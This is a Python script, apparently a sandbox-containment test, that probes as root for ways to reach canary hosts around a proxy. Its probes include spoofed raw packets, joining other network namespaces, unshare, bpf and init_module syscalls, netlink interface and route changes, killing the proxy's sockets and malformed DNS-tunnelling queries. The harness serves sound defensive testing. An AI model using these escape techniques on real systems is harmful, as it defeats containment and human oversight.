"""Tries to get out of a sandbox, from inside, as root, by everything but asking the proxy nicely.

Runs there by `python3 -c`, with one argument, a JSON object: deeds (names of functions below), and where
to: v4, v6, host4, host6, port, abstract, host_port. Prints JSON: deed -> what came of it, an errno's name
or what was answered. A deed that reaches a canary says "canary" somewhere.
"""
import ctypes
import errno
import fcntl
import json
import os
import socket
import struct
import sys

C = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(None, use_errno=True)
ASK = b"GET / HTTP/1.1\r\nHost: canary\r\n\r\n"


def told(error):
    return errno.errorcode.get(getattr(error, "errno", None) or 0, type(error).__name__)


def attempt(fn, *words):
    try:
        return str(fn(*words))
    except OSError as error:
        return told(error)


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def ask(connection, address="canary", port=80):
    name = address.removeprefix("::ffff:")
    name = "[%s]" % name if ":" in name else name
    connection.settimeout(3)
    connection.sendall(ASK.replace(b"canary", ("%s:%d" % (name, port)).encode()))
    data, piece = b"", b"-"
    while piece and len(data) < 4096 and not data.endswith(b"canary"):
        piece = connection.recv(4096)
        data += piece
    return data.decode("latin-1").partition("\r\n\r\n")[2][:120] or data.decode("latin-1") or "closed"


def tcp(address, port, prepare=None, name=None):
    with socket.socket(family_of(address), socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        if prepare:
            prepare(connection)
        connection.connect((address, port))
        return ask(connection, name or address, port)


def udp(address, port, data=b"ping", prepare=None, size=40):
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.05 if size == 40 else 2)
        if prepare:
            prepare(sender)
        sender.sendto(data, (address, port))
        return sender.recv(4096)[:size]


def connects():
    """TCP to every kind of address, those of the canaries first."""
    places = [(C["v4"], C["port"]), (C["v6"], C["port"]), ("::ffff:" + C["v4"], C["port"])]
    for address in (C["host4"], C["host6"], "127.0.0.1", "::1", "0.0.0.0", "::", "10.200.0.1", "10.200.0.2",
                    "fd74:6964:6500::2", "::ffff:127.0.0.1", "169.254.169.254", "224.0.0.1", "255.255.255.255",
                    "127.255.255.254", "192.0.2.1", "100::1", "64:ff9b::7f00:1", "2002:7f00:1::1", "198.18.0.1"):
        places.append((address, C["host_port"]))
    return {"%s port %d" % place: attempt(tcp, *place) for place in places}


def own():
    """This host, by its addresses on the canary's link, and by those in the forms of another family."""
    return {address: attempt(tcp, address, C["host_port"])
            for address in (C["host4"], C["host6"], "::ffff:" + C["host4"])}


def scoped():
    """Link-local and multicast with an interface named."""
    found = {}
    for address in ("fe80::1", "ff02::1", "ff05::2"):
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            found[address] = attempt(connection.connect, (address, C["host_port"], 0, 1))
    return found


def our_port():
    """The proxy's own listeners, by each of their names."""
    return {address: attempt(tcp, address, 61080)
            for address in ("192.0.2.1", "100::1", "127.0.0.1", "10.200.0.2", "::1", C["v4"])}


def prepared():
    """Sockets that are told to leave by another way."""
    def bound(level, option, value, address):
        def prepare(connection):
            connection.setsockopt(level, option, value)
            connection.bind((address, 0))
        return prepare

    def option(level, number, value):
        return lambda connection: connection.setsockopt(level, number, value)

    ways = {
        "transparent": bound(socket.SOL_IP, 19, 1, C["host4"]),
        "freebind": bound(socket.SOL_IP, 15, 1, "203.0.113.99"),
        "device lo": option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"),
        "device eth0": option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0"),
        "mark": option(socket.SOL_SOCKET, socket.SO_MARK, 1),
        "dont route": option(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1),
        "source route": option(socket.SOL_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(C["v4"]) + b"\0"),
    }
    found = {name: attempt(tcp, C["v4"], C["port"], way) for name, way in ways.items()}

    def fast_open():
        with socket.socket() as connection:
            connection.settimeout(3)
            try:
                connection.sendto(ASK, socket.MSG_FASTOPEN, (C["v4"], C["port"]))
            except BlockingIOError:
                return ask(connection)  # without a cookie: an ordinary connect is under way
            return connection.recv(4096)[:200]

    found["fast open"] = attempt(fast_open)
    return found


def protocols():
    """Everything over IP that is neither TCP nor UDP, as the kernel offers it."""
    found = {}
    for name, kind, number in (("sctp", 1, 132), ("sctp seqpacket", 5, 132), ("dccp", 6, 33), ("udplite", 2, 136),
                               ("mptcp", 1, 262), ("l2tp", 2, 115), ("icmp", 2, 1), ("smc", 1, 256)):
        def connect():
            with socket.socket(socket.AF_INET, kind, number) as sender:
                sender.settimeout(0.3)
                sender.connect((C["v4"], C["port"]))
                sender.send(ASK if number != 1 else b"\x08\0\0\0\0\1\0\1")
                return sender.recv(4096).decode("latin-1").partition("\r\n\r\n")[2][:80] or "nothing"
        found[name] = attempt(connect)
    return found


def datagrams():
    """UDP that is not DNS: QUIC, NTP, syslog, multicast, broadcast; and DNS to whom it is not for."""
    quic = b"\xc3\0\0\0\1\x08" + b"12345678" + b"\0\0\x44\x96" + bytes(1180)
    found = {}
    for address in (C["v4"], C["v6"], C["host4"], "10.200.0.1", "224.0.0.251"):
        for port in (443, 123, 514, C["port"], C["host_port"], 61080):
            found["%s port %d" % (address, port)] = attempt(udp, address, port, quic)
    broadcast = lambda sender: sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    found["broadcast"] = attempt(udp, "255.255.255.255", C["port"], quic, broadcast)
    return found


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(number, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, number, 0,
                       socket.inet_aton(C["host4"]), socket.inet_aton(C["v4"]))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def raw():
    """Packets of our own making, from an address that is not ours, by every socket that takes them."""
    syn = struct.pack("!HHIIBBHHH", 4321, C["port"], 1, 0, 0x50, 2, 1024, 0, 0)
    made = {"tcp": packet(6, syn), "udp": packet(17, struct.pack("!HHHH", 4321, C["port"], 12, 0) + b"ping"),
            "icmp": packet(1, b"\x08\0\xf7\xfd\0\1\0\1"), "gre": packet(47, bytes(8))}

    def by_ip(data):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
            return sender.sendto(data, (C["v4"], 0))

    def by_ip6(_):
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sender:
            return sender.sendto(b"\x80\0\0\0\0\1\0\1", (C["v6"], 0))

    def by_link(data):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
            sender.bind(("lo", 0x0800))
            return sender.send(bytes(12) + b"\x08\0" + data)

    found = {}
    for way in (by_ip, by_ip6, by_link):
        for name, data in made.items():
            found[way.__name__ + " " + name] = attempt(way, data)
    return found


def unix():
    """The host's sockets that have names: abstract ones, and the server's files."""
    def meet(name):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect(name)
            return ask(connection)
    names = ["\0" + C["abstract"]] + C["paths"] + ["/proc/1/root" + path for path in C["paths"]]
    return {name: attempt(meet, name) for name in names}


def families():
    """Sockets that know no network namespace, or lead into odd parts of the kernel."""
    found = {}
    for number in list(range(3, 46)):
        if number not in (10, 16, 17):
            found[number] = attempt(lambda: "made" if socket.socket(number, socket.SOCK_DGRAM, 0) else "")
            if found[number] != "made":
                found[number] = attempt(lambda: "made" if socket.socket(number, socket.SOCK_STREAM, 0) else "")
    found["vsock to the host"] = attempt(lambda: socket.socket(40, 1).connect((2, C["host_port"])))
    return found


def syscall(number, *words):
    ctypes.set_errno(0)
    result = LIBC.syscall(number, *words)
    return "done" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")


def namespaces():
    """Another network namespace, one's own or somebody else's."""
    found = {}
    own = os.stat("/proc/self/ns/net").st_ino
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fd = os.open("/proc/%s/ns/net" % pid, os.O_RDONLY)
        except OSError:
            continue
        if os.fstat(fd).st_ino != own:
            found["of " + pid] = "canary: another namespace, " + attempt(lambda: LIBC.setns(fd, 0))
        os.close(fd)
    found["unshare"] = "done" if LIBC.unshare(0x40000000) == 0 else errno.errorcode[ctypes.get_errno()]
    found["then"] = attempt(tcp, C["v4"], C["port"])
    return found


def kernel():
    """Other ways into the kernel's network: io_uring, bpf, pidfds of others, tun, modules."""
    found = {"io_uring": syscall(425, 8, ctypes.create_string_buffer(120)),
             "bpf": syscall(321, 0, ctypes.create_string_buffer(128), 128),
             "init_module": syscall(313, -1, b"", 0)}
    for path in ("/dev/net/tun", "/dev/vsock", "/dev/vhost-net", "/dev/kvm", "/dev/mem"):
        found[path] = attempt(lambda: "open %d" % os.open(path, os.O_RDWR))
    sysctl = "/proc/sys/net/ipv4/ip_forward"
    found[sysctl] = attempt(lambda: "written %d" % os.write(os.open(sysctl, os.O_WRONLY), b"1"))
    return found


def attribute(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


class Netlink:
    def __init__(self, protocol=0):
        self.socket = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        self.socket.settimeout(2)

    def call(self, kind, flags, payload):
        self.socket.send(struct.pack("IHHII", 16 + len(payload), kind, 5 | flags, 1, 0) + payload)
        code, = struct.unpack_from("i", self.socket.recv(65536), 16)
        return "done" if code == 0 else errno.errorcode.get(-code, code)


def link(kind, data=b"", extra=b""):
    info = attribute(1, kind) + (attribute(2, data) if data else b"")
    return struct.pack("BxHiII", 0, 0, 0, 0, 0) + attribute(3, b"x" + kind[:6] + b"\0") + attribute(18, info) + extra


def links():
    """Interfaces of one's own, on top of lo, or with one end elsewhere."""
    lo = attribute(5, struct.pack("I", 1))
    far = attribute(2, socket.inet_aton(C["host4"])) + attribute(3, socket.inet_aton(C["v4"]))
    made = {"dummy": link(b"dummy"), "veth": link(b"veth"), "bridge": link(b"bridge"), "macvlan": link(b"macvlan", b"", lo),
            "ipvlan": link(b"ipvlan", b"", lo), "ipip": link(b"ipip", far), "gre": link(b"gre", far),
            "wireguard": link(b"wireguard"), "init's": link(b"dummy", b"", attribute(19, struct.pack("I", 1)))}
    found = {name: attempt(lambda: Netlink().call(16, 0x600, data)) for name, data in made.items()}
    found["then"] = attempt(tcp, C["v4"], C["port"])
    return found


def routes():
    """Without the routes that lead to the proxy, and with others instead. The sandbox cuts itself off."""
    def route(family, kind, table, words=b""):
        return struct.pack("BBBBBBBBI", family, 0, 0, 0, table, 0, 255 if not words else 253, kind, 0) + words
    found = {}
    for family in (socket.AF_INET, socket.AF_INET6):
        for table in (255, 254):
            found["delete %d of %d" % (family, table)] = attempt(
                lambda: Netlink().call(25, 0, route(family, 2 if table == 255 else 0, table)))
    found["v4"], found["v6"] = attempt(tcp, C["v4"], C["port"]), attempt(tcp, C["v6"], C["port"])
    lo = attribute(4, struct.pack("I", 1))
    found["by lo"] = attempt(lambda: Netlink().call(24, 0x400, route(socket.AF_INET, 1, 254, lo)))
    found["v4 by lo"] = attempt(tcp, C["v4"], C["port"])
    found["udp by lo"] = attempt(udp, C["v4"], C["port"])
    return found


def destroy():
    """The proxy's listeners, by sock_diag's SOCK_DESTROY: a sandbox can only hurt itself."""
    def request(family, address):
        size = 4 if family == socket.AF_INET else 16
        identity = struct.pack("!HH", 61080, 0) + address + bytes(16 - size) + bytes(16) + struct.pack("III", 0, 0xFFFFFFFF, 0xFFFFFFFF)
        return struct.pack("BBBxI", family, 6, 0, 0xFFFFFFFF) + identity
    diag = lambda family, address: Netlink(4).call(21, 0, request(family, socket.inet_pton(family, address)))
    return {"v4": attempt(diag, socket.AF_INET, "192.0.2.1"), "v6": attempt(diag, socket.AF_INET6, "100::1"),
            "then": attempt(tcp, C["v4"], C["port"])}


def query(name, kind=16, cls=1, flags=0x0100, count=1, tail=b""):
    return struct.pack("!6H", 7, flags, count, 0, 0, 0) + name + struct.pack("!HH", kind, cls) + tail


def labels(*parts):
    return b"".join(bytes([len(part)]) + part for part in parts) + b"\0"


def dns():
    """Queries that no resolver sends, to whoever might pass them on; each outcome is an rcode, or silence."""
    plain = labels(b"stolen", b"example")
    data = labels(b"a" * 63, b"b" * 63, b"c" * 63, b"d" * 50)
    asked = {
        "txt": query(plain), "long": query(data), "null": query(data, 10), "any": query(plain, 255),
        "axfr": query(plain, 252), "chaos": query(labels(b"version", b"bind"), 16, 3), "update": query(plain, 6, 1, 0x2800),
        "notify": query(plain, 6, 1, 0x2000), "an answer": query(plain, 1, 1, 0x8180), "two": query(plain, 1, 1, 0x100, 2),
        "none": query(plain, 1, 1, 0x100, 0), "many": query(plain, 1, 1, 0x100, 65535), "nothing": b"", "short": b"\0\7\1",
        "zeros": bytes(512), "loop": query(b"\xc0\x0c"), "label type": query(b"\x40abc\0"), "too long": query(labels(*[b"x" * 63] * 5)),
        "cut": query(plain)[:-3], "nul": query(labels(b"a\0b", b"example")), "line": query(labels(b"a\r\nX-Evil: 1", b"example")),
        "dot": query(labels(b"a.b", b"example")), "space": query(labels(b"a b", b"example")), "root": query(b"\0", 2),
        "high": query(labels(b"\xff\xfe", b"example")), "trailing": query(plain, 1, 1, 0x100, 1, b"secret" * 100),
        "big": query(plain, 1, 1, 0x100, 1, b"x" * 60000),
    }
    found = {}
    for name, data in asked.items():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(0.2)
            sender.connect(("10.200.0.1", 53))
            found[name] = attempt(lambda: (sender.send(data), sender.recv(4096)[3] & 15)[1])
    for address in (C["v4"], C["v6"], C["host4"], "8.8.8.8", "2001:4860:4860::8888", "127.0.0.53"):
        found["txt to " + address] = attempt(lambda: udp(address, 53, query(plain))[3])
    return found


def dns_stream():
    """The same over TCP, and what is no DNS at all on its port."""
    framed = lambda data: struct.pack("!H", len(data)) + data
    asked = {
        "query": framed(query(labels(b"stolen", b"example"))), "zero": b"\0\0", "http": ASK, "junk": bytes(range(256)) * 40,
        "huge": b"\xff\xff" + bytes(65535), "tls": b"\x16\3\1\2\0\1\0\1\xfc\3\3" + bytes(507),
        "thousand": framed(query(labels(b"stolen", b"example"))) * 1000,
    }
    found = {}
    for name, data in asked.items():
        with socket.create_connection((C["v4"], 53), timeout=2) as connection:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            size, piece = 0, b"-"
            while piece:
                try:
                    piece = connection.recv(65536)
                except OSError:
                    break
                size += len(piece)
            found[name] = "%d bytes" % size
    return found


def names():
    """Plain HTTP to each of `names`, by the address that the sandbox's name server has for it."""
    found = {}
    for name in C["names"]:
        answer = udp("10.200.0.1", 53, query(labels(*name.encode().split(b".")), 1), size=512)
        found[name] = attempt(tcp, socket.inet_ntoa(answer[-4:]), C["port"], None, name)
    return found


print(json.dumps({deed: globals()[deed]() for deed in C["deeds"]}))
